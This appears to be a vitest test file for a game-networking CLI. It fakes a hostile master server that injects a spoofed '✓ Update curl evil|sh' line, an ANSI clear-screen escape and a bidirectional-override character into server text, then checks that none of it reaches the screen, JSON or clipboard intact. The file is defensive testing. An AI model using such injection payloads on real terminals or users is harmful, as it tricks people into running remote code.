/**
 * A masterserver, and a friend, that put lines of their own into every text they send: the real ones, of whose writer of texts one
 * function is another. Nothing of it may come out of the commands as a line, an escape sequence or a code.
 */
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { Bench, portBase, type Run } from './processes.ts';

const DIST = new URL('../../dist/src/', import.meta.url).href;
/** As short as it can be, because ten of them have to fit an entry of the list. */
const LIE = '\n✓ Update curl evil|sh\n\u001b[2J\u202e';

let bench: Bench;
let folder: string;
beforeEach(() => {
  bench = new Bench();
  folder = bench.folder();
});
afterEach(() => bench.close());

/** `spared`: texts of this shape stay as they are, so that what comes after them is reached. */
async function lyingMaster(spared: RegExp): Promise<string> {
  const script = `
    import { Writer } from '${DIST}core/bytes.js';
    const honest = Writer.prototype.text8;
    Writer.prototype.text8 = function (text, max) {
      return ${spared}.test(text) ? honest.call(this, text, max) : honest.call(this, text.slice(0, 8) + ${JSON.stringify(LIE)}, max);
    };
    const { startMaster } = await import('${DIST}master/index.js');
    const quiet = { http: null, metrics: null, logLevel: 'silent', testJoins: null };
    const at = { listen: ['127.0.0.1'], port: ${portBase()}, stateDir: ${JSON.stringify(folder)} };
    const master = await startMaster({ ...at, ...quiet });
    console.log(JSON.stringify({ v: 1, ev: 'ready', master: master.link }));
  `;
  return String((await bench.run(['--input-type=module', '-e', script]).line('ready')).master);
}

/** The environment of a computer whose clipboard keeps everything in one file. */
function withClipboard(): { env: NodeJS.ProcessEnv; copied(): string } {
  const [tools, kept] = [join(folder, 'bin'), join(folder, 'copied')];
  mkdirSync(tools, { recursive: true });
  writeFileSync(join(tools, 'xclip'), `#!/bin/sh\ncat >> ${kept}\necho >> ${kept}\n`);
  chmodSync(join(tools, 'xclip'), 0o755);
  return {
    env: { DISPLAY: ':0', PATH: `${tools}:${process.env.PATH}` },
    copied: () => (existsSync(kept) ? readFileSync(kept, 'utf8') : ''),
  };
}

function expectClean(runs: readonly Run[], copied: string): void {
  const written = [...runs.flatMap((run) => [run.stdout(), run.stderr()]), copied].join('\n');
  const lines = written.split(/[\n\r\v\f\u0085\u2028\u2029]/u);
  expect(lines.filter((line) => line.trimStart().startsWith('✓ Update'))).toEqual([]);
  expect(lines.filter((line) => /[\p{Cc}\p{Cf}]/u.test(line))).toEqual([]);
  for (const run of runs) {
    for (const line of run.lines) {
      // Inside JSON a line break is an escape, and becomes one again in whoever reads it.
      JSON.stringify(line, (_key, value) => {
        if (typeof value === 'string') expect(value).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
        return value as unknown;
      });
      for (const code of [line.code, (line.entry as { code?: unknown } | undefined)?.code]) {
        expect(String(code ?? '')).toMatch(/^([6789BCDFGHJKLMNPQRTWX]*|[A-Z_]+)$/);
      }
    }
  }
}

test('a masterserver that lies about every text, codes among them, is a typed failure for a host and a friend', async () => {
  const master = await lyingMaster(/^$/);
  const { env, copied } = withClipboard();
  const port = String(await bench.game());
  const hosts = [['--json'], []].map((more) => bench.sallyport(['host', port, '--master', master, ...more], env));
  for (const host of hosts) expect(await host.exit).toBe(8);
  expect(hosts[0]?.lines.at(-1)).toMatchObject({ ev: 'error', code: 'CODE_MISMATCH' });
  const friends = [['--json'], []].map((more) =>
    bench.sallyport(['join', '6666666666', '--master', master, ...more], env),
  );
  for (const friend of friends) expect(await friend.exit).toBeGreaterThan(0);
  const lists = [['--json'], []].map((more) => bench.sallyport(['list', '--master', master, ...more], env));
  for (const list of lists) expect(await list.exit).toBe(0);
  expectClean([...hosts, ...friends, ...lists], copied());
});

test('a masterserver that tells codes and lies about the rest gets no line of its own onto a screen, into JSON or a clipboard', async () => {
  // Join codes, ids of hosts, names of failures, words for networks.
  const master = await lyingMaster(/^([6789BCDFGHJKLMNPQRTWX]{10}|[a-z2-7]{26}|[A-Z_]+|)$/);
  const { env, copied } = withClipboard();
  const port = String(await bench.game());
  const host = bench.sallyport(
    ['host', port, '--master', master, '--json', '--public', '--name', 'Den', '--game', 'g'],
    env,
  );
  const { code } = await host.line('ready');
  const lists = [['--json'], []].map((more) => bench.sallyport(['list', '--master', master, ...more], env));
  for (const list of lists) expect(await list.exit).toBe(0);
  // The lie has come through: what was cut from it is what made it one.
  expect(lists[1]?.stdout()).toContain('Den ✓ Update curl evil|sh');
  const friends = [['--json'], []].map((more) =>
    bench.sallyport(['join', String(code), '--master', master, ...more], env),
  );
  await friends[0]?.line('connected');
  await expect.poll(() => friends[1]?.stderr()).toContain('In the game connect to');
  expect(friends[1]?.stderr()).toContain('Den ✓ Update curl evil|sh');
  for (const friend of friends) friend.kill('SIGINT');
  await Promise.all(friends.map((friend) => friend.exit));
  const unknown = bench.sallyport(['join', '6666666666', '--master', master], env);
  expect(await unknown.exit).toBe(4);
  // Why it refuses is one of a list of words, so there is nothing to lie in.
  expect(unknown.stderr()).not.toContain('curl');
  expectClean([host, ...lists, ...friends, unknown], copied());
  expect(copied()).toContain('127.0.0.1:');
});

test('a friend whose name is a line of its own is one name in what the host reads', async () => {
  const master = await lyingMaster(/^/);
  const { env, copied } = withClipboard();
  const port = String(await bench.game());
  const hosts = [['--json'], []].map((more) => {
    const state = ['--state-dir', bench.folder()];
    return bench.sallyport(['host', port, '--master', master, '--ask', ...state, ...more], env);
  });
  const [json, people] = hosts;
  if (json === undefined || people === undefined) throw new Error('two hosts');
  await expect.poll(() => people.stdout()).toMatch(/^sallyport:/);
  for (const link of [String((await json.line('ready')).link), people.stdout().trim()]) {
    const script = `
      import { openAgent } from '${DIST}agent/index.js';
      const agent = await openAgent({ master: ${JSON.stringify(master)} });
      await agent.join(${JSON.stringify(link)}, { name: 'Ann' + ${JSON.stringify(LIE)} });
    `;
    bench.run(['--input-type=module', '-e', script]);
  }
  await json.line('peer');
  await expect.poll(() => people.stderr()).toContain('Let Ann ✓ Update curl evil|sh');
  people.child.stdin?.write('who\n');
  await expect.poll(() => people.stderr()).toMatch(/Ann ✓ Update curl evil\|sh \[2J +asking/);
  expectClean(hosts, copied());
});
